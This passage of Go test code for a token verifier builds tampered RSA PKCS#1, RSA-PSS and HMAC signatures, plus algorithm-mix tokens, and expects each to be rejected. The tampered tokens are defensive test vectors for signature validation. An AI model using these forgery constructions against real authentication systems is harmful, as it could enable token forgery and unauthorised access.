			sig, err := rsa.SignPSS(rand.Reader, rsaKey, crypto.SHA256, d[:], &rsa.PSSOptions{SaltLength: salt})
			if err != nil {
				t.Fatal(err)
			}
			return input + "." + b64(sig)
		}
	}
	psKey := func(c *verifier.Config) {
		c.Algorithms = []string{"PS256"}
		c.Keys = set(key("k1", "PS256", rsaPub()))
	}
	return []tokenCase{
		{id: "R6/pkcs1-genuine-raw", tok: pkcs1Tok(p, func(d []byte) []byte { return emsa(cat(digestInfoSHA256, d)) }), want: nil},
		{id: "R6/pkcs1-no-NULL", tok: pkcs1Tok(p, func(d []byte) []byte { return emsa(cat(digestInfoNoNull, d)) }), want: errSig},
		{id: "R6/pkcs1-SHA512-OID", tok: pkcs1Tok(p, func(d []byte) []byte { return emsa(cat(digestInfoSHA512ID, d)) }), want: errSig},
		{id: "R6/pkcs1-bare-digest", tok: pkcs1Tok(p, func(d []byte) []byte { return emsa(d) }), want: errSig},
		{id: "R6/pkcs1-garbage-after-digest", tok: pkcs1Tok(p, func(d []byte) []byte { return emsa(cat(digestInfoSHA256, d, []byte{0})) }), want: errSig},
		{id: "R6/pkcs1-zero-padding", tok: pkcs1Tok(p, func(d []byte) []byte {
			em := emsa(cat(digestInfoSHA256, d))
			em[10] = 0
			return em
		}), want: errSig},
		{id: "R6/pkcs1-block-type-2", tok: pkcs1Tok(p, func(d []byte) []byte {
			em := emsa(cat(digestInfoSHA256, d))
			em[1] = 2
			return em
		}), want: errSig},
		{id: "R6/signature-255-bytes", tok: func(t testing.TB) string {
			tok := rs(p)(t)
			i := strings.LastIndexByte(tok, '.')
			sig, _ := base64.RawURLEncoding.DecodeString(tok[i+1:])
			return tok[:i+1] + b64(sig[1:])
		}, want: errSig},
		{id: "R6/pss-salt-32", cfg: psKey, tok: pss(32), want: nil},
		{id: "R6/pss-salt-0", cfg: psKey, tok: pss(0), want: errSig},
		{id: "R6/pss-salt-20", cfg: psKey, tok: pss(20), want: errSig},
		{id: "R6/pss-salt-64", cfg: psKey, tok: pss(64), want: errSig},
		{id: "R6/pss-salt-max", cfg: psKey, tok: pss(rsa.PSSSaltLengthAuto), want: errSig},
	}
}

// 3.16 HMAC (HM3, HM4 at construction: keypolicy_test.go; HM1's static
// check: TestHMACConstantTimeCompare).
func hmacCases() []tokenCase {
	p := claims(nil)
	valid := signed("HS256", hmacPriv, hdr("HS256", ""), p)
	mac := func(f func([]byte) []byte) func(testing.TB) string {
		return func(t testing.TB) string {
			tok := valid(t)
			i := strings.LastIndexByte(tok, '.')
			sig, _ := base64.RawURLEncoding.DecodeString(tok[i+1:])
			return tok[:i+1] + b64(f(sig))
		}
	}
	secret384 := func(c *verifier.Config) {
		s, err := verifier.SecretFor("HS384", hmacKey)
		if err != nil {
			panic(err)
		}
		c.Keys, c.Algorithms = s, []string{"HS384"}
	}
	return []tokenCase{
		{id: "HM1/genuine", cfg: hs256Cfg, tok: valid, want: nil},
		{id: "HM1/last-byte-low-bit", cfg: hs256Cfg, tok: mac(func(s []byte) []byte { s[31] ^= 0x01; return s }), want: errSig},
		{id: "HM1/last-byte-high-bit", cfg: hs256Cfg, tok: mac(func(s []byte) []byte { s[31] ^= 0x80; return s }), want: errSig},
		{id: "HM1/first-byte", cfg: hs256Cfg, tok: mac(func(s []byte) []byte { s[0] ^= 0x01; return s }), want: errSig},
		{id: "HM2/31-bytes", cfg: hs256Cfg, tok: mac(func(s []byte) []byte { return s[:31] }), want: errSig},
		{id: "HM2/33-bytes", cfg: hs256Cfg, tok: mac(func(s []byte) []byte { return append(s, 0) }), want: errSig},
		{id: "HM2/64-bytes", cfg: hs256Cfg, tok: mac(func(s []byte) []byte { return append(s, s...) }), want: errSig},
		{id: "HM2/1-byte", cfg: hs256Cfg, tok: mac(func(s []byte) []byte { return s[:1] }), want: errSig},
		{id: "HM2/empty", cfg: hs256Cfg, tok: mac(func([]byte) []byte { return nil }), want: errMalformed},
		{id: "HM5/HS384-token-HS256-secret", cfg: func(c *verifier.Config) { hs256Cfg(c); c.Algorithms = []string{"HS256", "HS384"} },
			tok: signed("HS384", hmacPriv, hdr("HS384", ""), p), want: errKid},
		{id: "HM5/HS384-not-allowed", cfg: hs256Cfg, tok: signed("HS384", hmacPriv, hdr("HS384", ""), p), want: errAlg},
		{id: "HM5/HS256-token-HS384-secret", cfg: func(c *verifier.Config) { secret384(c); c.Algorithms = []string{"HS256", "HS384"} }, tok: valid, want: errKid},
		{id: "HM5/HS384-genuine", cfg: secret384, tok: signed("HS384", hmacPriv, hdr("HS384", ""), p), want: nil},
	}
}
